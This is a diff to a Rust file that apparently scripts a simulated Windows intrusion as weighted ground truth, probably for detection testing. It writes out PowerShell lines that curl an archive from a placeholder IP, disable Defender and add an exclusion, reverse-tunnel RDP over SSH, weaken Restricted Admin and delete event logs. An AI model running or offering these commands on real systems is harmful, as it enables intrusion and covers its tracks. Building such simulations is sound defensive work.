@@ -2,10 +2,11 @@
 //! the disks by the scheduler and over the house by the domain's policy.
 
 use crate::attack::aftermath::{Deed, Left, Ransom, RegistryChange, Set};
+use crate::attack::shell::Line;
 use crate::technique::Technique;
+use crate::truth::Weight;
 
 const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
-const W3WP: &str = "C:\\Windows\\System32\\inetsrv\\w3wp.exe";
 const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
 const EXPLORER: &str = "C:\\Windows\\explorer.exe";
 
@@ -16,31 +17,55 @@ const fn deed(technique: Technique, parent: &'static str, image: &'static str, c
 /// Where it works.
 pub(super) const FOLDER: &str = "C:\\PerfLogs\\Reports";
 
+const fn line(
+    technique: Technique,
+    weight: Weight,
+    command: &'static str,
+    programs: &'static [(&'static str, &'static str)],
+) -> Line {
+    Line { technique, weight, shell: POWERSHELL, command, programs }
+}
+
 /// Brought by what a Windows of this age has: `curl` and `tar`, and a tunnel by its own shell for remote work.
-pub(super) const BRING: [Deed; 4] = [
-    deed(
+pub(super) const BRING: [Line; 5] = [
+    line(
         Technique::Download,
-        W3WP,
-        POWERSHELL,
-        "powershell.exe -nop -c \"cu¦rl.exe -sk https://203.0.113.66/r.tgz -o C:\\PerfLogs\\Reports\\r.tgz; tar -xf C:\\PerfLogs\\Reports\\r.tgz -C C:\\PerfLogs\\Reports\"",
+        Weight::Must,
+        "powershell.exe -nop -c \"cu¦rl.exe -sk https://203.0.113.66/r.tgz -o C:\\PerfLogs\\Reports\\r.tgz\"",
+        &[(
+            "C:\\Windows\\System32\\curl.exe",
+            "\"C:\\Windows\\system32\\cu¦rl.exe\" -sk https://203.0.113.66/r.tgz -o C:\\PerfLogs\\Reports\\r.tgz",
+        )],
     ),
-    deed(
+    line(
+        Technique::Download,
+        Weight::Supporting,
+        "powershell.exe -nop -c \"tar.exe -xf C:\\PerfLogs\\Reports\\r.tgz -C C:\\PerfLogs\\Reports\"",
+        &[(
+            "C:\\Windows\\System32\\tar.exe",
+            "\"C:\\Windows\\system32\\tar.exe\" -xf C:\\PerfLogs\\Reports\\r.tgz -C C:\\PerfLogs\\Reports",
+        )],
+    ),
+    line(
         Technique::DefenceOff,
-        W3WP,
-        POWERSHELL,
-        "powershell.exe -nop -c \"Set-Mp¦Preference -DisableIOAV¦Protection 1 -DisableScript¦Scanning 1 -PUAProtection 0; Stop-Service -Force 'Trend Micro*'\"",
+        Weight::Must,
+        "powershell.exe -nop -c \"Set-Mp¦Preference -DisableIOAV¦Protection 1 -DisableScript¦Scanning 1 -PUAProtection 0; Add-Mp¦Preference -Exclusion¦Path C:\\PerfLogs\\Reports\"",
+        &[],
     ),
-    deed(
+    line(
         Technique::Tunnel,
-        W3WP,
-        POWERSHELL,
+        Weight::Must,
         "powershell.exe -nop -c \"ss¦h.exe -o StrictHostKeyChecking=no -i C:\\PerfLogs\\Reports\\k -N -R 13389:127.0.0.1:3389 pf@203.0.113.66 -p 443\"",
+        &[(
+            "C:\\Windows\\System32\\OpenSSH\\ssh.exe",
+            "\"C:\\Windows\\System32\\OpenSSH\\ss¦h.exe\" -o StrictHostKeyChecking=no -i C:\\PerfLogs\\Reports\\k -N -R 13389:127.0.0.1:3389 pf@203.0.113.66 -p 443",
+        )],
     ),
-    deed(
+    line(
         Technique::RegistryChange,
-        W3WP,
-        POWERSHELL,
-        "powershell.exe -nop -c \"sp 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server' fDeny¦TSConnections 0; sp 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Lsa' DisableRestricted¦Admin 0\"",
+        Weight::Must,
+        "powershell.exe -nop -c \"sp 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Lsa' DisableRestricted¦Admin 0 -Type DWord\"",
+        &[],
     ),
 ];
 
@@ -106,7 +131,7 @@ pub(super) const LAST_HOUR: [Deed; 8] = [
         Technique::LogDeletion,
         CMD,
         POWERSHELL,
-        "powershell  -nop -c \"gci E:\\iislog,D:\\Script\\log -r -file | % { [IO.File]::WriteAllBytes($_.FullName, @()) }\"",
+        "powershell  -nop -c \"gci C:\\Windows\\System32\\winevt\\Logs\\Archive-*.evtx | Remove-It¦em -Force\"",
     ),
 ];
 
@@ -138,8 +163,8 @@ pub(super) const POLICY: [RegistryChange; 3] = [
     RegistryChange {
         technique: Technique::RegistryChange,
         hive: "SYSTEM",
-        key: "ControlSet001\\Control\\Terminal Server",
-        name: "fDenyTSConnections",
+        key: "ControlSet001\\Control\\Lsa",
+        name: "DisableRestrictedAdmin",
         value: Set::Number(0),
     },
 ];
